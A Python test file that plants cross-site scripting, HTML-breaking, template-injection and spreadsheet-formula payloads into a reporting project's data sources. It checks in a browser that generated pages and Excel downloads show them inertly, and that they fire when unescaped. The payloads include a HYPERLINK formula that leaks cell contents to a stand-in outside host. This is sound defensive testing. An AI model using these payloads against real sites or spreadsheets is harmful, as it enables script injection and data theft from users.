"""What a source may write to take over a page: planted in every column that pages show, and opened in a browser.

A project is cleaned and its pages are made; nothing in them runs, loads, moves or parts the page, with the policy of
the page and without it. A control shows that each payload would be seen at work.
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import jinja2
import openpyxl
import pytest
from nbconvert.filters import markdown2html

ROOT = Path(__file__).resolve().parents[2]
OUTSIDE = "outside.example.test"
RUN = "document.documentElement.dataset.ran = 1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f'<img src="http://{OUTSIDE}/a.png" onerror="{RUN}">',
    f'"><svg onload="{RUN}">',
    "</td></tr></table></figure></main><h1 class=planted>x</h1>",
    f"</script><script>{RUN}//",
    f'<meta http-equiv=refresh content="0;url=http://{OUTSIDE}/b">',
    f"![x](http://{OUTSIDE}/c.png) [x](<javascript:{RUN}>)",
    f'<base href="http://{OUTSIDE}/"><form action="http://{OUTSIDE}/d"><input autofocus onfocus="{RUN}"></form>',
    "{{ 7 * 7 }} {% raw %} ${x} %s {region.__class__}",
    "$x^2$ `a` **b** _c_ # d | 1.",
    '=HYPERLINK("http://outside.example.test/?"&A2)',
)
ELEMENTS = (
    *(".planted", "base", "form[action]", "meta[http-equiv=refresh]", "[onerror], [onload], [onfocus]"),
    *(f'a[href*="{OUTSIDE}"]', 'a[href^="javascript:"]', 'img[src^="http"]'),
)
PAGES = ("funding", "quality", "profile-occitanie")
DESCRIPTION = """[file]
sha256 = ""
language = "fr"
layout = "records"
header = 1
precision = "claim"
accounting_negatives = false
delimiter = ","

[columns]
"Territoire" = "territory"
"Texte" = "text"
"Objet" = "object"
"Payeur" = "payer"
"Note" = "note"
"Étape" = "stage"

[defaults]
geography = "cog2024"
indicator = "budget"
measure = "level"
sector = "digital_policy"
scope = "object"
dated = "stated"
period = "2016"
nature = "claimed"
"""


def write_source(number: int, payload: str) -> str:
    texts = dict.fromkeys(("title", "publisher", "citation", "licence", "note"), payload)
    keys = {"id": f"planted_{number}", **texts, "kind": "press", "published": "2016", "language": "fr"}
    return "\n[[source]]\n" + "\n".join(f"{key} = '''{text}'''" for key, text in keys.items()) + "\n"


def plant(root: Path) -> None:
    """Write a file a payload: figures with it in every column of words, and a figure that is nothing but it."""
    for number, payload in enumerate(PAYLOADS):
        file = root / "data" / "raw" / f"planted_{number}.csv"
        rows = [("12 M€", payload, payload, payload, "voted"), (payload, "x", "y", "z", "voted")]
        with file.open("w", encoding="utf-8", newline="") as opened:
            writer = csv.writer(opened)
            writer.writerow(("Territoire", "Texte", "Objet", "Payeur", "Note", "Étape"))
            writer.writerows(("Occitanie", *row) for row in rows)
        file.with_suffix(".toml").write_text(DESCRIPTION + write_source(number, payload), encoding="utf-8")


def run(root: Path, *words: str) -> subprocess.CompletedProcess:
    environment = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    command = [sys.executable, "-m", "indicators", *words]
    return subprocess.run(command, cwd=root, env=environment, capture_output=True, text=True, check=False)


@pytest.fixture(scope="module")
def planted(tmp_path_factory) -> Path:
    """The reports of a project in which every payload is planted."""
    root = tmp_path_factory.mktemp("planted")
    for name in ("data", "notebooks", "requirements"):
        shutil.copytree(ROOT / name, root / name, ignore=shutil.ignore_patterns(".ipynb_checkpoints"))
    plant(root)
    for number in range(len(PAYLOADS)):
        accepted = run(root, "accept", f"planted_{number}")
        assert accepted.returncode == 0, accepted
    ended = run(root, "report", *PAGES)
    assert ended.returncode == 0, ended
    return root / "reports"


def open_unguarded(open_page, path: Path, folder: Path, guarded: bool) -> object:
    text = path.read_text(encoding="utf-8")
    assert text.count("Content-Security-Policy") == 1
    if not guarded:
        text = text.replace("Content-Security-Policy", "x-nothing")
    copy = folder / path.name
    copy.write_text(text, encoding="utf-8")
    return open_page(copy)


def find_work(opened: object) -> list[str]:
    """Return what the payloads did to a page: each runs, loads, moves or parts it."""
    opened.wait_for_timeout(200)
    if opened.evaluate("location.protocol") != "file:":
        return ["moved"]
    ran = ["ran"] if opened.evaluate("document.documentElement.dataset.ran") else []
    return [*ran, *(element for element in ELEMENTS if opened.locator(element).count())]


@pytest.mark.parametrize("guarded", [True, False], ids=["with-policy", "without-policy"])
@pytest.mark.parametrize("page", [f"{language}/{name}.html" for language in ("fr", "en") for name in (*PAGES, "index")])
def test_no_text_of_a_source_runs_loads_or_parts_a_page(planted, open_page, tmp_path, page, guarded):
    opened = open_unguarded(open_page, planted / page, tmp_path, guarded)
    assert find_work(opened) == []
    assert opened.locator("h1").count() == 1


@pytest.mark.parametrize("page", ["fr/profile-occitanie.html", "fr/quality.html"])
def test_what_a_source_wrote_is_shown_letter_by_letter(planted, open_page, page):
    opened = open_page(planted / page)
    opened.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    shown = opened.locator("body").evaluate("(body) => body.textContent.replace(/\\s+/g, ' ')")
    assert [payload for payload in PAYLOADS if payload not in shown] == []


def test_no_text_of_a_source_is_a_formula_or_a_link_in_the_workbook_of_the_edition(planted):
    for language in ("fr", "en"):
        book = openpyxl.load_workbook(planted / "downloads" / f"edition-{language}.xlsx")
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert [
            cell.hyperlink.target for cell in cells if cell.hyperlink and OUTSIDE in str(cell.hyperlink.target)
        ] == []
        assert any(PAYLOADS[0] in str(cell.value) for cell in cells)


@pytest.mark.parametrize(
    ("number", "work"),
    [
        *((0, "ran"), (1, "ran"), (2, "ran"), (3, ".planted"), (4, "ran"), (5, "moved")),
        *((6, 'img[src^="http"]'), (6, 'a[href^="javascript:"]'), (7, "ran"), (7, "form[action]"), (7, "base")),
    ],
)
def test_where_nothing_is_escaped_a_payload_is_seen_at_work(open_page, tmp_path, number, work):
    control, payload = tmp_path / "control.html", PAYLOADS[number]
    places = f'<p title="{payload}">{payload}{markdown2html(payload)}<script>var told = "{payload}"</script>'
    control.write_text(f'<!doctype html><html lang="fr"><title>x</title>{places}', "utf-8")
    assert work in find_work(open_page(control, check=False))


def test_where_nothing_is_escaped_a_template_a_text_in_markdown_and_a_formula_are_seen_at_work():
    template, marked, formula = PAYLOADS[8:]
    with pytest.raises(jinja2.TemplateSyntaxError, match="raw"):
        jinja2.Template(template)
    assert marked not in re.sub(r"<[^>]+>", "", markdown2html(marked))
    cell = openpyxl.Workbook().active["A1"]
    cell.value = formula
    assert cell.data_type == "f"
